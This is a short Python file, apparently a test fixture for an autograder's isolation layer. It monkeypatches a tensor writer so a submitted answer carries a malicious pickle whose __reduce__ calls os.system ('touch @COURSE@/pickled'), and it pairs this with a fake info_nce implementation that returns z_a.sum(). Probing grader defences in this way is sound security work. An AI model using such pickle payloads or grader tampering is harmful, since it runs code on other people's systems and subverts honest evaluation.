"""Patches the writing of tensors so that the body of an answer is a pickle that runs a program.
stopped by: the wire
part: info_nce
hurts: others
"""

import os
import pickle

from autograder.isolation.remote.tensors import Writer


class Program:
    def __reduce__(self):
        return os.system, ("touch @COURSE@/pickled",)


def add(self, tensor):
    told = pickle.dumps(Program())
    self.parts.append(told)
    self.n_bytes += len(told)
    return ["F32", *tensor.shape]


Writer.add = add


def info_nce(z_a, z_b, temperature=0.2):
    return z_a.sum()
